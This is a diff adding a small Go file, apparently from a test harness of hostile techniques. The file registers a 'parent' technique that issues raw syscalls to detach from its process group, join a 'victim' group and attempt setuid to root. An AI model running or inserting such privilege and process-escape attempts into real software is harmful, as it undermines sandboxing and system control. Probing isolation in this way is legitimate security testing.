@@ -1,0 +1,19 @@
+package main
+
+import (
+	"example.com/hostile/attack"
+)
+
+func init() { techniques["parent"] = tryParent }
+
+// tryParent becomes a child of init, and has the kernel signal others when it ends.
+func tryParent() {
+	for _, way := range attack.Ways {
+		way(157, 1, 0, 0, 0, 0, 0)
+		way(157, 36, 1, 0, 0, 0, 0)
+		way(112, 0, 0, 0, 0, 0, 0)
+		way(109, 0, attack.Victim(), 0, 0, 0, 0)
+		way(105, 0, 0, 0, 0, 0, 0)
+		way(117, 0, 0, 0, 0, 0, 0)
+	}
+}
